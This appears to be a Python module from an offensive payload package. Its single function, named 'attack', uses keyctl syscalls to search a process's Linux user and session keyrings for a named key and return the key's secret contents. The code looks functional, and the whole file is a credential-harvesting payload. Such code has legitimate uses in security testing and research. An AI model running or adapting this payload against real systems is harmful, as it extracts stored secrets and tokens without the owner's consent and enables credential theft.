"""Read a key out of the keyrings that this process was given."""

import ctypes

from payloads.kernel import syscall

_READ, _SEARCH, _LINK = 11, 10, 8
_SESSION, _USER, _USER_SESSION = -3, -4, -5


def attack(name):
    errors = []
    for keyring in (_USER, _SESSION, _USER_SESSION):
        try:
            key = syscall("keyctl", _SEARCH, keyring, b"user", name.encode(), 0)
            buffer = ctypes.create_string_buffer(256)
            size = syscall("keyctl", _READ, key, buffer, len(buffer))
            return buffer.raw[:size].decode()
        except OSError as error:
            errors.append(str(error))
    return errors
